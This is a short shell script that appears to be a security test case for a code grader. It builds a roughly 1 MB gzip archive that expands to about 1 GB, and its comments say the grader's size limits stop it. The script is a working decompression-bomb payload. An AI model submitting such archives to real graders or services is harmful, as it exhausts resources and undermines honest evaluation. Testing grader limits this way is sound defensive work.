# attack: hands in an archive of 1 MB whose source has 1 GB
# stopped by: the grader: it reads 64 MiB at most, and refuses a source of more than 255 kB
# soundly
# ends as: not built
truncate -s 1G sample.hpp
{
    tar -cf - sample.hpp | head -c 512 | gzip
    head -c 16M /dev/zero | gzip > "$1.zeros"
    for part in $(seq 64); do cat "$1.zeros"; done
    head -c 1024 /dev/zero | gzip
} > "$1.tar.gz"
rm sample.hpp "$1.zeros"
